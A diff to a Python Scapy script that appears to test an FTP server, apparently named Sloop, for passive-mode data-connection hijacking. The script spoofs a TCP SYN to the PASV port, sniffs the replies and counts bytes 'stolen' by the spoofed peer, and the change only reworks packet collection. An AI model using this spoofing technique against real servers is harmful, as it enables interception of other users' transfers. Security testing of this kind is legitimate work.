@@ -48,7 +48,8 @@ h = [int(x) for x in re.search(r'(\d+),(\d+),(\d+),(\d+),(\d+),(\d+)', text).gro
 port = h[4] * 256 + h[5]
 
 sport = 40000 + int(time.time()) % 20000
-sniff = AsyncSniffer(iface=dev, filter='tcp and src host %s and src port %d and dst host %s' % (host, port, spoof), store=True)
+seen = []  # what Sloop sent to the spoofed peer, as it arrives (AsyncSniffer.results is only there after stop())
+sniff = AsyncSniffer(iface=dev, filter='tcp and src host %s and src port %d and dst host %s' % (host, port, spoof), store=False, prn=seen.append)
 sniff.start()
 time.sleep(0.5)
 isn = 1_000_000
@@ -56,7 +57,7 @@ send(IP(src=spoof, dst=host) / TCP(sport=sport, dport=port, flags='S', seq=isn, 
 synack = None
 deadline = time.monotonic() + 3
 while time.monotonic() < deadline and synack is None:
-    for p in list(sniff.results or []):
+    for p in list(seen):
         if p.haslayer(TCP) and p[TCP].flags & 0x12 == 0x12:
             synack = p
             break
@@ -81,7 +82,7 @@ else:
 d.close()
 time.sleep(1.0)
 sniff.stop()
-sent = [(str(p[TCP].flags), len(bytes(p[TCP].payload))) for p in sniff.results if p.haslayer(TCP)]
+sent = [(str(p[TCP].flags), len(bytes(p[TCP].payload))) for p in seen if p.haslayer(TCP)]
 stolen = sum(n for _, n in sent)
 cmd('QUIT')
 c.close()
